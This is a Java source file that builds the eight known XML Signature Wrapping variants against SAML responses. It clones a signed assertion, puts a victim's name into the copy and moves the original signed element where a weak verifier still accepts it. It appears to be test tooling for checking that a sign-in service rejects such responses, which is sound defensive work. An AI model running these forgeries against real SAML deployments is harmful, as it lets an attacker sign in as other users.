package org.liftlock.signin.saml;

import org.w3c.dom.Document;
import org.w3c.dom.Element;
import org.w3c.dom.Node;

/** The eight known ways to wrap a signed message around a forged one (Somorovsky et al., "On Breaking SAML", 2012). */
final class Wrapping {
    private static final String ASSERTIONS = "urn:oasis:names:tc:SAML:2.0:assertion";
    private static final String PROTOCOL = "urn:oasis:names:tc:SAML:2.0:protocol";
    private static final String SIGNATURES = "http://www.w3.org/2000/09/xmldsig#";

    private final Document document;
    private final Element response;

    private Wrapping(String signed) {
        document = Signing.parse(signed);
        response = document.getDocumentElement();
    }

    /** @param signed a response that is signed itself for the ways 1 and 2, with a signed assertion for the others */
    static String of(int way, String signed, String victim) {
        Wrapping wrapping = new Wrapping(signed);
        switch (way) {
            case 1 -> wrapping.responseInside(victim, true);
            case 2 -> wrapping.responseInside(victim, false);
            case 3 -> wrapping.forgedBefore(victim);
            case 4 -> wrapping.originalInsideForged(victim);
            case 5 -> wrapping.signatureMovedToForged(victim, false);
            case 6 -> wrapping.signatureMovedToForged(victim, true);
            case 7 -> wrapping.forgedInExtensions(victim);
            case 8 -> wrapping.originalInObject(victim);
            default -> throw new IllegalArgumentException("There are eight ways");
        }
        return Signing.text(wrapping.document);
    }

    private void responseInside(String victim, boolean inSignature) {
        Element signature = child(response, SIGNATURES, "Signature");
        Element original = (Element) response.cloneNode(true);
        original.removeChild(child(original, SIGNATURES, "Signature"));
        forge(response, victim);
        if (inSignature) {
            signature.appendChild(original);
        } else {
            response.insertBefore(original, signature);
        }
    }

    private void forgedBefore(String victim) {
        Element original = original();
        response.insertBefore(forged(original, victim), original);
    }

    private void originalInsideForged(String victim) {
        Element original = original();
        Element forged = forged(original, victim);
        response.replaceChild(forged, original);
        forged.appendChild(original);
    }

    private void signatureMovedToForged(String victim, boolean around) {
        Element original = original();
        Element forged = forged(original, victim);
        Element signature = child(original, SIGNATURES, "Signature");
        original.removeChild(signature);
        forged.insertBefore(signature, forged.getFirstChild().getNextSibling());
        response.replaceChild(forged, original);
        if (around) {
            signature.appendChild(original);
        } else {
            response.appendChild(original);
        }
    }

    private void forgedInExtensions(String victim) {
        Element extensions = document.createElementNS(PROTOCOL, "samlp:Extensions");
        extensions.appendChild(forged(original(), victim));
        response.insertBefore(extensions, child(response, PROTOCOL, "Status"));
    }

    private void originalInObject(String victim) {
        Element original = original();
        Element forged = forged(original, victim);
        Element signature = child(original, SIGNATURES, "Signature");
        original.removeChild(signature);
        response.replaceChild(forged, original);
        Element object = document.createElementNS(SIGNATURES, "ds:Object");
        object.appendChild(original);
        signature.appendChild(object);
        forged.insertBefore(signature, forged.getFirstChild().getNextSibling());
    }

    private Element original() {
        return child(response, ASSERTIONS, "Assertion");
    }

    /** A copy that says something else under another id, without a signature. */
    private static Element forged(Element original, String victim) {
        Element forged = (Element) original.cloneNode(true);
        forged.removeChild(child(forged, SIGNATURES, "Signature"));
        forge(forged, victim);
        return forged;
    }

    private static void forge(Element element, String victim) {
        element.setAttribute("ID", element.getAttribute("ID") + "-forged");
        var names = element.getElementsByTagNameNS(ASSERTIONS, "NameID");
        names.item(0).setTextContent(victim);
        element.getElementsByTagNameNS(ASSERTIONS, "AttributeValue").item(0).setTextContent(victim);
    }

    private static Element child(Element parent, String namespace, String name) {
        for (Node child = parent.getFirstChild(); child != null; child = child.getNextSibling()) {
            if (namespace.equals(child.getNamespaceURI()) && name.equals(child.getLocalName())) {
                return (Element) child;
            }
        }
        throw new IllegalStateException("There is no " + name);
    }
}
